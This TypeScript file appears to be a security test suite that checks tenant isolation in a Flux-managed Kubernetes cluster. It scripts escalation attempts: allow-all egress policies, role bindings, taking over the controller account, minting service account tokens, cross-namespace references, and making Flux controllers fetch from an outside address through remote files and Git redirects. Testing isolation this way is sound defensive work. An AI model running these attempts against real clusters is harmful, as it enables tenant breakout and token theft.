import type { KubernetesObject } from '../../../../cluster/api';
import { configMap, files, kustomized, pod } from '../../tenant-repository/_shop';
import { accepted, asks, asksTheWeb, podObject, short } from '../_attempts';
import { attacks, type Outcome, type Row, refused, through } from '../_types';
import { inNamespace, OTHER, type World } from '../_world';

const CONTROLS = ['tenant-role', 'admission-guardrails'];
const KUSTOMIZE = 'kustomize.toolkit.fluxcd.io/v1';
const SOURCE = 'source.toolkit.fluxcd.io/v1';
const RBAC = 'rbac.authorization.k8s.io';

/** Whether something is there; it is gone after the attack. */
async function appeared(world: World, path: string, otherwise: string): Promise<Outcome> {
  const found = await world.lab.api.get(path);
  if (found) world.forget(path);
  return found ? through(`${found.kind} ${found.metadata.name} is there`) : refused(otherwise);
}

/** Commits an object, and looks whether Flux has brought it into the cluster. */
async function commits(world: World, object: object, path: string): Promise<Outcome> {
  const { status, message } = await world.push('client-a', files(object));
  return appeared(world, path, `Flux: ${status === 'True' ? 'applied, elsewhere' : short(message)}`);
}

function repository(title: string, collection: string, object: KubernetesObject): Row {
  const path = inNamespace(`${collection}/${object.metadata.name}`);
  return { title, attempt: (world) => commits(world, object, path) };
}

const ACCOUNT = { kind: 'ServiceAccount', name: 'client-a', namespace: 'client-a-demo' };

function kustomization(name: string, spec: object): KubernetesObject {
  const kind = 'Kustomization';
  return { apiVersion: KUSTOMIZE, kind, metadata: { name }, spec: { interval: '1m', prune: true, ...spec } };
}

export const FLUX = attacks('i', CONTROLS, {
  'repository-policy': repository(
    'commits a network policy that allows everything',
    'networking.k8s.io/v1:networkpolicies',
    {
      apiVersion: 'networking.k8s.io/v1',
      kind: 'NetworkPolicy',
      metadata: { name: 'repository-policy' },
      spec: { podSelector: {}, policyTypes: ['Egress'], egress: [{}] },
    },
  ),
  'repository-role': repository('commits a role for its account', `${RBAC}/v1:rolebindings`, {
    apiVersion: `${RBAC}/v1`,
    kind: 'RoleBinding',
    metadata: { name: 'repository-role' },
    roleRef: { apiGroup: RBAC, kind: 'ClusterRole', name: 'view' },
    subjects: [ACCOUNT],
  }),
  'repository-kustomization': repository(
    'commits a Kustomization that applies with the platform’s account',
    `${KUSTOMIZE}:kustomizations`,
    kustomization('repository-kustomization', {
      path: './deploy',
      sourceRef: { kind: 'GitRepository', name: 'client-a' },
      serviceAccountName: 'kustomize-controller',
    }),
  ),
  'repository-elsewhere': {
    title: 'commits an object for the other tenant’s namespace',
    controls: ['target-namespace', 'no-rights-elsewhere'],
    attempt: (world) => {
      const metadata = { name: 'repository-elsewhere', namespace: OTHER };
      return commits(world, { ...configMap('x'), metadata }, inNamespace('configmaps/repository-elsewhere', OTHER));
    },
  },
  'platform-source': {
    title: 'makes a Kustomization of the platform’s repository',
    controls: [...CONTROLS, 'no-cross-namespace-refs'],
    attempt: async (world) => {
      const object = kustomization('platform-source', {
        path: './dist/base/client-a/workloads',
        targetNamespace: 'client-a-demo',
        serviceAccountName: 'client-a',
        prune: false,
        sourceRef: { kind: 'GitRepository', name: 'scaleway-k8s-egres-proxy', namespace: 'flux-system' },
      });
      const answer = await world.create(`${KUSTOMIZE}:kustomizations`, object);
      if (answer.status >= 300) return accepted(answer);
      const path = inNamespace(`${KUSTOMIZE}:kustomizations/platform-source`);
      return world.lab.waitFor('Flux has tried it', async () => {
        const { status } = (await world.lab.api.get(path)) as KubernetesObject;
        const ready = status?.conditions?.find(({ type }: { type: string }) => type === 'Ready');
        if (!ready || ready.status === 'Unknown') return undefined;
        // What was read is enough, whatever came of applying it.
        return status.lastAttemptedRevision ? through('Flux has read it') : refused(`Flux: ${short(ready.message)}`);
      });
    },
  },
  'remote-file': {
    title: 'commits a Kustomize file that has Flux’s controller fetch from elsewhere',
    controls: ['no-kustomize-files'],
    attempt: (world) => fetches(world, 'client-a', 'remote-file'),
  },
  'remote-file-by-permission': {
    title: 'does so where its settings say `kustomize: true`',
    controls: [],
    remains:
      'Flux’s controller fetches what a generator names, whatever `--no-remote-bases` says: do not set it, or close the controller’s own network ([flux.md](flux.md#a-tenants-own-repository))',
    attempt: (world) => fetches(world, 'client-b', 'remote-file-by-permission'),
  },
  'source-inside': {
    title: 'makes a GitRepository, by which Flux’s source-controller asks an address of its choice',
    attempt: (world) =>
      asksTheWeb(world, 'source-inside/info/refs?service=git-upload-pack', async () => {
        const spec = { interval: '1m', url: 'http://ifconfig.me/source-inside', ref: { branch: 'main' } };
        const kind = 'GitRepository';
        const object = { apiVersion: SOURCE, kind, metadata: { name: 'source-inside' }, spec };
        const answer = await world.create(`${SOURCE}:gitrepositories`, object);
        if (answer.status < 300) await ready(world, 'source-inside');
        return accepted(answer).words;
      }),
  },
  'source-redirect': {
    title: 'has its Git server send Flux’s source-controller to an address of its choice',
    controls: [],
    exclusive: true,
    remains:
      'source-controller follows a redirect of a tenant’s Git server by one GET request. The answer is not shown, unless it is a Git repository. Close the controllers’ own network ([flux.md](flux.md#what-the-controllers-may-reach))',
    attempt: async (world) => {
      const path = '/client-a/shop';
      const outcome = await asksTheWeb(world, 'source-redirect', async () => {
        world.lab.source.redirect(path, 'http://ifconfig.me/source-redirect');
        await world.lab.source.git('status');
        return ready(world, 'client-a');
      });
      world.lab.source.redirect(path);
      await world.lab.source.git('status');
      return outcome;
    },
  },
  'flux-of-the-platform': {
    title: 'makes a Kustomization where the platform has its own',
    controls: ['no-rights-elsewhere'],
    attempt: async (world) => {
      const path = `/apis/${KUSTOMIZE}/namespaces/flux-system/kustomizations`;
      const sourceRef = { kind: 'GitRepository', name: 'scaleway-k8s-egres-proxy' };
      return accepted(await world.create(path, kustomization('attack', { suspend: true, path: './', sourceRef })));
    },
  },
  'token-of-flux': {
    title: 'takes a token of the account that Flux takes for it',
    controls: ['no-rights-elsewhere'],
    attempt: (world) =>
      asks(world, 'POST', '/api/v1/namespaces/flux-system/serviceaccounts/client-a/token', { spec: {} }),
  },
  'token-of-its-account': {
    title: 'takes a token of the account that applies its repository',
    attempt: (world) => asks(world, 'POST', 'serviceaccounts/client-a/token', { spec: {} }),
  },
  'token-secret': {
    title: 'has a secret filled with such a token',
    controls: ['admission-secrets'],
    attempt: async (world) => {
      const annotations = { 'kubernetes.io/service-account.name': 'client-a' };
      const type = 'kubernetes.io/service-account-token';
      return accepted(await world.create('secrets', { metadata: { name: 'token-secret', annotations }, type }));
    },
  },
  'other-account': {
    title: 'runs a pod as that account',
    controls: ['admission-pods'],
    attempt: async (world) => {
      const spec = pod({ serviceAccountName: 'client-a' });
      return accepted(await world.create('pods', podObject('other-account', spec)));
    },
  },
});

/** What source-controller says of a repository of the tenant's, once it has tried it. */
function ready(world: World, name: string): Promise<string> {
  return world.lab.waitFor('source-controller has tried it', async () => {
    const { status } = (await world.lab.api.get(inNamespace(`${SOURCE}:gitrepositories/${name}`))) as KubernetesObject;
    const found = status?.conditions?.find(({ type }: { type: string }) => type === 'Ready');
    return found?.status === 'Unknown' ? undefined : found?.message;
  });
}

/** A generator that names a file by its address, and whether somebody has come for it. */
async function fetches(world: World, tenant: 'client-a' | 'client-b', name: string): Promise<Outcome> {
  const before = world.asked(name).length;
  const options = { disableNameSuffixHash: true };
  const configMapGenerator = [{ name, files: [`answer=http://ifconfig.me/${name}`], options }];
  const { message } = await world.push(tenant, kustomized(files(configMap('planted')), { configMapGenerator }));
  const by = world
    .asked(name)
    .slice(before)
    .map(({ client }) => client);
  return by.length > 0
    ? through(`the web was asked by ${by[0]}`)
    : refused(`Flux: ${short(message.replace(/@sha1:\w+/, ''))}`);
}
